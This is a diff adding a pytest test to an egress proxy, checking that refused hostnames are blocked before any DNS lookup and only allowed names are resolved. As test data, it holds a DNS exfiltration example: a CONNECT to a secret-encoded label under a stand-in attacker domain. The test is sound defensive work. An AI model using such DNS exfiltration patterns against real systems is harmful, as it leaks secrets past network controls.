@@ -215,3 +215,24 @@ def test_connections_per_command_are_bounded() -> None:
             s.close()
         proxy.proxy.close()
     assert any(e["rule"] == "too-many-connections" for e in proxy.events)
+
+
+def test_names_no_rule_allows_are_never_resolved(monkeypatch: pytest.MonkeyPatch) -> None:
+    """DNS exfiltration through the proxy: a refused name (`<secret>.evil.example`) is decided before any
+    lookup, so it never reaches a resolver; an allowed name is looked up by the proxy itself."""
+    looked_up: list[str] = []
+    real = socket.getaddrinfo
+
+    def recording_getaddrinfo(host: str, *args: Any, **kwargs: Any) -> Any:
+        if host == "127.0.0.1":  # the test's own connection to the proxy
+            return real(host, *args, **kwargs)
+        looked_up.append(host)
+        raise socket.gaierror(socket.EAI_NONAME, "no such name (test resolver)")
+
+    monkeypatch.setattr(socket, "getaddrinfo", recording_getaddrinfo)
+    proxy = Proxy(["allowed.example"], deny=["*.denied.example"])
+    for target in ("c2VjcmV0.evil.example:443", "x.denied.example:443", "allowed.example:443"):
+        reply = proxy.exchange(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
+        assert reply.startswith((b"HTTP/1.1 403", b"HTTP/1.1 502")), reply
+    proxy.proxy.close()
+    assert looked_up == ["allowed.example"]
